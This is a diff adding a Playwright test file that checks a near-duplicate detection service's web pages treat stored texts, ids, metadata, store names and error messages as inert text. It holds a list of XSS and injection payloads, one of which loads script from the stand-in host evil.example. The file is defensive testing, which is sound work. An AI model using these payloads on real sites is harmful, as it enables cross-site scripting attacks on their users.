@@ -1,0 +1,185 @@
+"""What others have written never becomes part of the page: texts, ids, metadata, names of stores, words of errors, labels of metrics."""
+
+import json
+
+import pytest
+
+import neardup as nd
+from service.opened_page import FERRY, Stubs, opened
+from service.serving import listening
+
+STORE = "<img src=x onerror=window.hacked=1> & \u202e'\""
+PAYLOADS = [
+    "<script>window.hacked = 1</script>",
+    "</textarea></title></style><script src='http://evil.example/x.js'></script>",
+    "\"><img src='http://evil.example/x.png' onerror='window.hacked = 1'>",
+    "<svg onload=window.hacked=1><a xlink:href='javascript:window.hacked=1'>x</a></svg>",
+    "' onfocus='window.hacked = 1' autofocus='",
+    "javascript:window.hacked=1",
+    "__proto__", "constructor", "{id}", "${window.hacked = 1}", "$&$1", "%3Cscript%3E",
+    "\u202eevil\u2066\u200b\u061c\u2028", "\x1b]0;evil\x07\x7f\x9b", "<b style='position:fixed;inset:0'>over</b>",
+]  # fmt: skip
+UNSEEN = "\u202e\u2066\u200b\u061c\u2028\x1b\x07\x7f\x9b"
+COUNTED = "['script', 'img', 'iframe', 'style', 'base', 'object', 'form', '[style]'].map((each) => document.querySelectorAll(each).length)"
+
+
+def text_with(payload, number):
+    return f"{payload} {FERRY} {payload} of {number}"
+
+
+@pytest.fixture(scope="module")
+def url(tmp_path_factory):
+    """A service whose store has nothing but payloads: as ids, texts, and names and values of metadata."""
+    path = str(tmp_path_factory.mktemp("attack") / "s")
+    with nd.Store(path, min_similarity=0.9, keep="always", floor=0.2) as store:
+        for number, payload in enumerate(PAYLOADS):
+            store.check_and_add(
+                payload, text_with(payload, number), metadata={payload: payload, "deep": [[{payload: [payload]}]]}
+            )
+    with listening({STORE: path}) as found:
+        yield found
+
+
+def stubs():
+    texts = {payload: text_with(payload, number) for number, payload in enumerate(PAYLOADS)}
+    rows = [
+        {
+            "position": number, "duplicate_of": payload, "similarity": 0.9, "distance": 1, "exact": False, "seen": 0.0,
+            "text": payload + FERRY, "survivor_text": texts[payload],
+        }
+        for number, payload in enumerate(PAYLOADS)
+    ]  # fmt: skip
+    pairs = [
+        {
+            "left": {"id": payload, "text": text},
+            "right": {"position": 1, "text": payload},
+            "similarity": 0.9,
+            "kind": "removed",
+        }
+        for payload, text in texts.items()
+    ]
+    return Stubs(texts=texts, duplicates=rows, review=pairs)
+
+
+def unharmed(page):
+    """Whether nothing of a payload has become more than words: `opened` also looks for violations and requests."""
+    assert page.evaluate("window.hacked") is None
+    assert page.evaluate("Object.prototype.hasOwnProperty.call(Object.prototype, 'hacked')") is False
+    scripts, pictures, frames, styles, bases, objects, forms, styled = page.evaluate(COUNTED)
+    assert (scripts, pictures, frames, styles, bases, objects, styled) == (1, 1, 0, 0, 0, 0, 0)
+    assert forms <= 1
+    shown = page.evaluate("document.querySelector('main').textContent")
+    assert not [each for each in UNSEEN if each in shown]
+    assert not page.evaluate(
+        "[...document.querySelectorAll('a')].some((each) => !/^(#\\w+|v1\\/openapi.json)$/.test(each.getAttribute('href')))"
+    )
+    assert page.heard == []
+
+
+def test_texts_ids_and_metadata_stay_words(browser, url):
+    with opened(browser, url, stubs=stubs()) as page:
+        for number, payload in enumerate(PAYLOADS):
+            page.fill("#text", text_with(payload, number))
+            page.keyboard.press("Control+Enter")
+            page.wait_for_selector("#answer:not([aria-busy]) .verdict")
+            page.wait_for_selector("#answer .sides")
+            assert page.locator(".known .pair").count() > 1
+            unharmed(page)
+
+
+def test_steps_of_a_comparison_stay_words(browser, url):
+    with opened(browser, url, "compare") as page:
+        page.fill("#left", " ".join(PAYLOADS))
+        page.fill("#right", " ".join(PAYLOADS[::-1]))
+        page.click("button.main")
+        page.wait_for_selector(".steps")
+        for each in page.query_selector_all("text=Show all"):
+            each.click()
+        unharmed(page)
+
+
+def test_duplicates_neighbors_and_pairs_stay_words(browser, url):
+    with opened(browser, url, "browse", stubs=stubs()) as page:
+        page.wait_for_selector("#recent .match")
+        while page.locator("text=Show more").count():
+            before = page.locator("#recent .match").count()
+            page.click("text=Show more")
+            page.wait_for_selector(f"#recent .match >> nth={before}")
+        assert page.locator("#recent .match").count() == len(PAYLOADS)
+        for number in range(len(PAYLOADS)):
+            page.click(f"#recent .link >> nth={number}")
+            page.wait_for_selector("#document:not([aria-busy]) .card")
+        page.click("#recent .quiet >> nth=2")
+        page.wait_for_selector("#recent .sides")
+        unharmed(page)
+        page.goto(f"{url}/#review")
+        for number in range(len(PAYLOADS)):
+            page.wait_for_selector(".desk:not([aria-busy]) .sides")
+            unharmed(page)
+            page.keyboard.press("s")
+            page.wait_for_selector(f"#tally:has-text('{number + 1} of')")
+
+
+def test_names_of_stores_and_labels_of_metrics_stay_words(browser, url):
+    with opened(browser, url, "numbers") as page:
+        page.wait_for_selector(".tiles")
+        page.wait_for_selector("#facts dl")
+        assert page.inner_text(".choice b") == STORE.replace("\u202e", "\u27e8U+202E\u27e9")
+        unharmed(page)
+
+
+@pytest.mark.parametrize("body", [
+    json.dumps({"type": "about:blank", "title": "x", "status": 422, "code": PAYLOADS[0], "detail": " ".join(PAYLOADS)}),
+    " ".join(PAYLOADS),
+    json.dumps({"detail": {"a": PAYLOADS}, "code": None}),
+])  # fmt: skip
+def test_words_of_errors_stay_words(browser, url, body):
+    with opened(browser, url) as page:
+        page.route("**/check", lambda route: route.fulfill(status=422, content_type="text/html", body=body))
+        page.fill("#text", FERRY)
+        page.keyboard.press("Control+Enter")
+        page.wait_for_selector("#answer [role=alert]")
+        page.heard = [each for each in page.heard if "422" not in each]  # Chromium notes each refusal
+        unharmed(page)
+
+
+def test_an_answer_that_is_no_json_is_told(browser, url):
+    with opened(browser, url) as page:
+        page.route("**/check", lambda route: route.fulfill(status=200, content_type="text/html", body=PAYLOADS[0]))
+        page.fill("#text", FERRY)
+        page.keyboard.press("Control+Enter")
+        page.wait_for_selector("#answer [role=alert]:has-text('cannot be read')")
+        unharmed(page)
+
+
+def test_values_beyond_all_measure_are_shown(browser, tmp_path):
+    deep = []
+    for _ in range(300):
+        deep = [deep]
+    with nd.Store(tmp_path / "s", min_similarity=0.7) as store:
+        store.check_and_add("x" * 5000, FERRY, metadata=deep, expires=1e300)
+        store.check_and_add(10**40, " ".join(PAYLOADS), metadata={"n": -(2**63), "": 1e308}, expires=8e12)
+    with (
+        listening({"default": str(tmp_path / "s")}) as url,
+        opened(browser, url, "browse", stubs=stubs(), width=390) as page,
+    ):
+        for given in ("x" * 5000, str(10**40)):
+            page.fill("#asked", given)
+            page.keyboard.press("Enter")
+            page.wait_for_selector("#document:not([aria-busy]) .card")
+            assert page.inner_text(".card h3") == given
+            assert page.evaluate("document.documentElement.scrollWidth") <= 390
+        assert str(-(2**63)) in page.inner_text(".card")
+        unharmed(page)
+
+
+def test_markup_that_a_script_would_make_is_stopped_by_the_policy(browser, url):
+    with opened(browser, url) as page:
+        tried = "(() => { try { document.body.innerHTML = '<img src=x onerror=window.hacked=1>'; return 'made'; } catch (found) { return found.name; } })()"
+        assert page.evaluate(tried) == "TypeError"
+        page.evaluate(
+            "document.body.append(Object.assign(document.createElement('style'), {textContent: 'body { display: none }'}))"
+        )
+        page.wait_for_function("violations.length >= 2")
+        assert set(page.evaluate("violations")) == {"require-trusted-types-for", "style-src-elem"}
+        page.evaluate("violations.length = 0")  # the only ones that were meant
